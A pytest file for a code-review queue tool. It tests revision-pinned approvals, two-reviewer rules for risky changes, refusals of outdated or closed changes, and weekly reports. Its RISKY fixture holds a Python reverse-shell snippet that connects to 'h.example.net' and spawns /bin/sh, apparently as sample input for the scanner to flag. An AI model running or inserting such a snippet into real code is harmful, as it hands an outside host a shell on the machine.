"""What a reviewer's form does, and what it refuses to do."""
# The scene comes from a fixture, so its class has no name here.
# ruff: noqa: ANN401 -- a fixture's type lives in conftest

from typing import Any

import pytest

from reviewqueue.coverage import report_markdown
from reviewqueue.domain.change import RepositoryKind
from reviewqueue.domain.people import Person
from reviewqueue.domain.review import Answer, DecisionKind
from reviewqueue.pipeline import (
    Outdated,
    Refused,
    change_diff,
    decide,
    dispose,
    seen_token,
    weekly_report,
)

MAIN = "refs/heads/main"
PULL = "refs/pull/1/head"
BO = Person("Bo Lind", "bo@lind.org")
CARA = Person("Cara Moe", "cara@moe.org")
RISKY = {
    "start.py": "import os, pty, socket\ns = socket.socket()\ns.connect(('h.example.net', 9))\n"
    "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n"
}


def opened(scene: Any, files: dict[str, str] | None = None) -> Any:
    scene.propose(1, files)
    scene.pull()
    return scene.only()


def status(scene: Any, change: str) -> str:
    with scene.store.reading() as reader:
        return str(reader.verdict(change).verdict.status)


def decide_on(change: str, scene: Any) -> Any:
    return decide(
        scene.store,
        change=change,
        revision=scene.tips[PULL],
        kind=DecisionKind.APPROVE,
        body="",
        reviewer=BO,
        seen=seen_token([]),
        now=scene.now,
        development=True,
    )


def findings(scene: Any, change: str) -> Any:
    with scene.store.reading() as reader:
        return reader.scan(change, reader.latest_revision(change).sha).findings


def answer(scene: Any, change: str, fingerprint: str, **more: Any) -> Any:
    options: dict[str, Any] = {
        "revision": scene.shas(change)[-1],
        "answer": Answer.ACCEPTED_RISK,
        "reason": "The script is ours.",
        "reviewer": BO,
        "now": scene.now,
        "development": True,
        **more,
    }
    return dispose(scene.store, change=change, fingerprint=fingerprint, **options)


def test_it_pins_a_decision_to_the_revision_and_reaches_the_verdict(scene: Any) -> None:
    change = opened(scene)
    assert status(scene, change.id) == "unsatisfied"
    decision = scene.approve(change.id)
    assert (decision.revision, decision.id) == (scene.tips[PULL], f"{change.id}-1")
    assert status(scene, change.id) == "satisfied"


def test_it_takes_an_approval_back(scene: Any) -> None:
    change = opened(scene)
    scene.approve(change.id)
    scene.approve(change.id, kind=DecisionKind.REQUEST_CHANGES)
    assert status(scene, change.id) == "unsatisfied"


def test_it_does_not_count_the_operator(scene: Any) -> None:
    change = opened(scene)
    scene.approve(change.id, by=Person("Anna Ek", "anna@ek.org"))
    assert status(scene, change.id) == "unsatisfied"


def test_it_wants_two_people_and_answers_where_the_risk_is_high(scene: Any) -> None:
    change = opened(scene, RISKY)
    scene.approve(change.id)
    scene.approve(change.id, by=CARA)
    assert status(scene, change.id) == "unsatisfied"
    for finding in findings(scene, change.id):
        answer(scene, change.id, finding.fingerprint)
    assert status(scene, change.id) == "satisfied"


def test_it_refuses_a_decision_on_a_revision_that_was_overtaken(scene: Any) -> None:
    change = opened(scene)
    old = scene.tips[PULL]
    scene.commit(PULL, {"more.py": "more = 1\n"}, agent=True)
    scene.pull()
    with pytest.raises(Outdated, match="newer revision"):
        scene.approve(change.id, revision=old)
    with scene.store.reading() as reader:
        assert reader.decisions(change.id) == ()


def test_it_refuses_a_decision_on_other_findings_than_there_are(scene: Any) -> None:
    change = opened(scene, RISKY)
    with pytest.raises(Outdated, match="findings changed"):
        scene.approve(change.id, seen=seen_token([]))
    assert seen_token(["a", "b"]) == seen_token(["b", "a"]) != seen_token(["a"])


def test_it_refuses_a_decision_on_what_is_not_there_or_closed(scene: Any) -> None:
    change = opened(scene)
    with pytest.raises(Refused, match="no such change"):
        decide_on("absent", scene)
    scene.move(PULL, None)
    scene.pull()
    with pytest.raises(Refused, match="closed: its head is gone"):
        scene.approve(change.id)


def test_it_wants_a_reason_and_a_finding_for_an_answer(scene: Any) -> None:
    change = opened(scene, RISKY)
    first = findings(scene, change.id)[0].fingerprint
    with pytest.raises(Refused, match="reason"):
        answer(scene, change.id, first, reason="  ")
    with pytest.raises(Outdated, match="no such finding"):
        answer(scene, change.id, "0" * 16)
    with pytest.raises(Outdated, match="newer revision"):
        answer(scene, change.id, first, revision="0" * 40)
    disposition = answer(scene, change.id, first)
    assert disposition.rule == findings(scene, change.id)[0].rule


def test_it_counts_unanswered_findings_when_a_change_lands(scene: Any) -> None:
    change = opened(scene, RISKY)
    found = findings(scene, change.id)
    answer(scene, change.id, found[0].fingerprint)
    sha = scene.merge(scene.tips[PULL], files=RISKY)
    scene.pull()
    landing = scene.landings()[sha]
    assert (landing.findings, landing.unanswered) == (len(found), len(found) - 1)


def test_it_never_counts_the_development_sign_in_for_a_forge(make_scene: Any) -> None:
    scene = make_scene(kind=RepositoryKind.GITHUB)
    scene.start()
    change = opened(scene)
    scene.approve(change.id)
    assert status(scene, change.id) == "unsatisfied"
    scene.approve(change.id, by=CARA, development=False)
    assert status(scene, change.id) == "satisfied"


def test_it_shows_a_changes_diff_from_the_mirror(scene: Any) -> None:
    change = opened(scene)
    sha = scene.tips[PULL]
    diff = change_diff(scene.store, scene.settings, change.id, sha)
    assert b"+part = 1" in diff.patch
    with pytest.raises(Refused, match="no such revision"):
        change_diff(scene.store, scene.settings, change.id, "0" * 40)
    (scene.settings.mirrors / scene.id).rename(scene.folder / "away")
    with pytest.raises(Refused, match="pull it again"):
        change_diff(scene.store, scene.settings, change.id, sha)


def test_it_reports_a_week_that_adds_up(scene: Any) -> None:
    change = opened(scene)
    scene.approve(change.id)
    scene.merge(scene.tips[PULL], files={"part1.py": "part = 1\n"})
    scene.commit(MAIN, {"direct.py": "direct = 1\n"}, agent=True)
    scene.pull()
    report = weekly_report(scene.store, scene.settings, "2026-W47", scene.now)
    assert tuple(report.head) == tuple(scene.store.head())
    text = report_markdown(report)
    assert "1 of 2" in text
